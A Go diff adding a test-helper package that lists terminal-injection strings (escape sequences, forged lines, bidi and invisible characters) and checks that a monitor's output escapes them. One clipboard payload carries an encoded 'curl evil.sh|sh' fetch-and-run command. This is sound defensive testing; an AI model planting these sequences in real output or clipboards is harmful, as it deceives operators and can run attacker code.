@@ -1,0 +1,64 @@
+// Package termsafetest holds the terminal attacks the tests of the monitor
+// and the queue manager plant in Redis or send over TCP, and the check
+// that none of them reached an output.
+package termsafetest
+
+import (
+	"fmt"
+	"strings"
+
+	"github.com/multcall/dialbridge/monitor/termsafe"
+)
+
+// Forged is the text the attacks try to show as a line of its own: after
+// escaping it may only appear right after the escape of the character
+// meant to start that line.
+const Forged = "FORGED"
+
+// Attacks are strings an attacker can plant anywhere text is read from
+// (call and operator ids, error texts, host names, log messages).
+var Attacks = map[string]string{
+	"window title (OSC 0)":  "a\x1b]0;pwned\x07b",
+	"window title (OSC 2)":  "a\x1b]2;pwned\x1b\\b",
+	"clear screen (CSI 2J)": "a\x1b[2J\x1b[Hb",
+	"clipboard (OSC 52)":    "a\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07b",
+	"bare CR forges a line": "a\r" + Forged + " Call 7 answered by operator A",
+	"LF forges a line":      "a\n" + Forged + " Call 7 answered by operator A",
+	"bell":                  "a\x07\x07b",
+	"C1 CSI (UTF-8)":        "a\u009b2Jb",
+	"C1 OSC, raw byte":      "a\x9d0;pwned\x9cb",
+	"bidi override (Cf)":    "a\u202egnp.exe\u202cb",
+	"bidi isolate (Cf)":     "a\u2067x\u2069b",
+	"zero-width (Cf)":       "a\u200b\u200d\ufeffb",
+	"tag characters (Cf)":   "a\U000e0041\U000e007fb",
+	"line separator":        "a\u2028" + Forged + "b",
+	"backspace and DEL":     "abc\b\b\x7fd",
+	"NUL and invalid UTF-8": "a\x00\xff\xfeb",
+	"8-bit CSI, raw byte":   "a\x9b2Jb",
+}
+
+// Unsafe describes the first character of out a terminal would act on
+// (newlines excepted: outputs are made of lines), or a line that starts
+// with Forged, or returns "".
+func Unsafe(out string) string {
+	for n, line := range strings.Split(out, "\n") {
+		if i := termsafe.FirstUnsafe(line); i >= 0 {
+			end := min(len(line), i+12)
+			return fmt.Sprintf("line %d: raw %q at byte %d: %q", n+1, line[i], i, line[max(0, i-20):end])
+		}
+		if j := strings.Index(line, Forged); j >= 0 && !escapedBefore(line[:j]) {
+			return fmt.Sprintf("line %d: forged: %q", n+1, line)
+		}
+	}
+	return ""
+}
+
+// escapedBefore: the forged text follows the escape of a line break.
+func escapedBefore(s string) bool {
+	for _, e := range []string{`\r`, `\n`, `\u2028`} {
+		if strings.HasSuffix(s, e) {
+			return true
+		}
+	}
+	return false
+}
